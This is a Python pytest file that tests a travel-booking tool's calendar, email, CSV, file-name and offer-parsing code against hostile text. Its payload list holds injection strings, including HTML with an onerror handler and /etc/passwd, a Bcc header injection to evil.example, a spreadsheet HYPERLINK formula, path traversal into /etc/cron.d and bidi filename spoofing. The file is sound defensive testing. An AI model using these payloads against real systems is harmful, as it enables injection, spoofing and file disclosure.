"""Texts of an airline or a customer that want to be more: markup, controls, turned directions, megabytes."""

import csv
import io
import json
import time
from copy import deepcopy
from dataclasses import replace
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from functools import cache
from typing import Any

import pytest

from agentdesk.duffel.reading_offers import read_offer
from agentdesk.duffel.reading_orders import read_order
from agentdesk.duffel.reading_rows import OfferReader
from agentdesk.duffel.wire.tolerant import LONGEST, plain
from agentdesk.papers.after_sale import sheet_of
from agentdesk.papers.calendar import calendar
from agentdesk.papers.mail import mail
from agentdesk.papers.orders_csv import orders_csv
from agentdesk.papers.plain_text import plain_text
from agentdesk.papers.sheet import printable
from agentdesk.papers.words import BRITISH
from agentdesk.travel.orders import Order
from agentdesk.ui.orders.file_names import file_name
from tests.duffel import recorded
from tests.papers.orders import one_way, paper
from tests.papers.test_exports import a_record

TEXTS = {
    "markup": '<img src="file:///etc/passwd" onerror=alert(1)><b>Ann</b>',
    "end of line": "Ann\r\nBcc: all@evil.example\r\n\r\n<html>",
    "event": "Ann\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Free",
    "calendar signs": "Ann\\;,:\"'",
    "turned": "Ann\u202e\u2066gnp.exe\u2069\u061c\u200f",
    "controls": "Ann\x00\x07\x1b[2J\x1b]0;owned\x07\x85\x9b31m",
    "separators": "Ann\u2028BEGIN:VEVENT\u2029\x0b\x0c\x1c\x1d",
    "half a letter": "Ann\ud800",
    "formula": '=HYPERLINK("http://evil.example",A1)',
    "path": "../../../etc/cron.d/ann",
    "typst": '#eval("1") #read("/etc/passwd") $x$ @ref <label> ]',
    "very long": "Ann " * 3_000,
}
STEERING = "\x00\x07\x1b\x85\x9b\u061c\u200f\u202e\u2066\u2069\ud800"
hostile = pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)


def an_order(text: str) -> Order:
    """Everywhere where upstream or an agent may write freely."""
    order = one_way()
    passenger = replace(order.passengers[0], given_name=text, family_name=text)
    return replace(order, reference=text, passengers=(passenger,), owner=replace(order.owner, name=text))


@hostile
def test_a_calendar_stays_a_calendar(text: str) -> None:
    content = calendar(paper(an_order(text)), BRITISH).decode()
    lines = content.split("\r\n")
    assert max(len(line.encode()) for line in lines) <= 75
    assert not set(content.replace("\r\n", "")) & set("\r\n\x00\x07\x0b\x0c\x1b\x1c\x1d\x85\u2028\u2029\u202e")
    assert _names(lines).count("BEGIN") == 2
    assert _names(lines) == _names(calendar(paper(an_order("Ann")), BRITISH).decode().split("\r\n"))


def _names(lines: list[str]) -> list[str]:
    """What stands before the colon of each line that begins anew."""
    return [line.partition(":")[0] for line in lines if line and not line.startswith(" ")]


@hostile
def test_a_mail_has_no_header_and_no_part_more(text: str) -> None:
    content = paper(an_order(text))
    said = plain_text(printable(sheet_of(content, BRITISH)))
    raw = mail(content, BRITISH, recipient=text, text=said, pdf=b"%PDF-", calendar=calendar(content, BRITISH))
    message = message_from_bytes(raw, policy=default)
    assert isinstance(message, EmailMessage)
    assert set(message.keys()) == {"Subject", "X-Unsent", "MIME-Version", "Content-Type"}
    assert not message.defects
    parts = [part.get_content_type() for part in message.walk()]
    assert parts == ["multipart/mixed", "text/plain", "application/pdf", "text/calendar"]
    for part in message.iter_attachments():
        name = str(part.get_filename())
        assert not set(name) & set('/\\<>:"|?*\r\n\x00') & set(TEXTS["path"] + TEXTS["markup"])
        assert ".." not in name


@hostile
def test_a_row_of_a_spreadsheet_stays_one_row_without_formulas(text: str) -> None:
    record = a_record(an_order(text), note=text, own_reference=text)
    content = b"".join(orders_csv([record])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) == 2
    assert len(rows[0]) == len(rows[1])
    assert not any(cell.lstrip(" ").startswith(("=", "@", "\t", "\r")) for cell in rows[1])


@hostile
def test_a_file_is_never_named_out_of_its_folder(text: str) -> None:
    name = file_name(f"itinerary-{text}", "pdf")
    assert name.startswith("itinerary-")
    assert name.endswith(".pdf")
    assert len(name.encode()) < 255
    assert name.count(".") == 1
    assert name.isprintable()
    assert not set(name) & set('/\\:*?"<>|')


@cache
def _recorded_offer() -> dict[str, Any]:
    return recorded.offers("offer-zz-2pax-return-services.json")[0]


def _said(answer: dict[str, Any], text: str) -> bytes:
    """The answer with this text wherever a person's words may stand; what would be no JSON is left as a surrogate."""
    said = deepcopy(answer)
    said["owner"]["name"] = text
    for part in said["slices"]:
        part["fare_brand_name"] = text
        for segment in part["segments"]:
            segment["aircraft"] = {"name": text}
            segment["origin_terminal"] = text
            segment["marketing_carrier"]["name"] = text
            segment["origin"]["name"] = text
            segment["marketing_carrier_flight_number"] = text
    return json.dumps(said).encode("utf-8", "surrogatepass")


@hostile
def test_what_comes_in_has_no_controls_and_a_bounded_length(text: str) -> None:
    if "\ud800" in text:
        assert plain(text) == "Ann"
        return
    raw = _said(_recorded_offer(), text)
    rows, unreadable = OfferReader().read([raw])
    assert unreadable == 0
    for offer in (read_offer(raw), *rows):
        flight = offer.slices[0].segments[0].flight
        shown = (offer.owner.name, flight.aircraft, flight.origin_terminal, flight.number, flight.origin.name)
        for one in (*shown, offer.slices[0].fare_brand):
            assert not set(one) & set(STEERING)
            assert len(one) <= LONGEST
            assert one.startswith(text[:3])


def test_a_name_of_ten_megabytes_is_cut_at_the_door_and_quickly() -> None:
    order = recorded.orders("order-zz-bag-and-seat.json")[0]
    passengers = [one | {"given_name": "A" * 10_000_000} for one in order["passengers"]]
    raw = json.dumps(order | {"passengers": passengers}).encode()
    began = time.process_time()
    found = read_order(raw)
    assert time.process_time() - began < 5
    assert {len(one.given_name) for one in found.passengers} == {LONGEST}


def test_letters_of_any_script_and_lines_stay_as_they_came() -> None:
    for text in ("Zoë Łucja", "山田 太郎", "محمد", "नमस्ते", "a\nb\tc", "\N{NO-BREAK SPACE}x", "👩‍👩‍👧", "क्‍ष"):
        assert plain(text) == text
